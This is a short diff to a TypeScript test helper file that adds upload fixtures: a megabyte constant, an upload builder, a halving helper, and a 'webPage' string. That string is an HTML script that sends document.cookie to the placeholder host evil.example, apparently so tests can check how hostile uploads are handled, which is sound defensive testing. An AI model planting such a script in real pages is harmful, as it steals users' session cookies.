@@ -4,6 +4,15 @@ import type { Session } from './accounts.ts';
 import type { TestApp } from './test-app.ts';
 
 export type Upload = { bytes: Buffer; name?: string; type?: string };
+export const megabyte = 1_048_576;
+export const webPage = '<html><script>fetch("//evil.example/"+document.cookie)</script></html>';
+
+export const upload = (bytes: Buffer | string, more: Partial<Upload> = {}): Upload => ({
+  bytes: Buffer.from(bytes),
+  ...more,
+});
+export const halfOf = (bytes: Buffer): Buffer => bytes.subarray(0, bytes.length / 2);
+
 export type Saved = {
   status: number;
   body: {
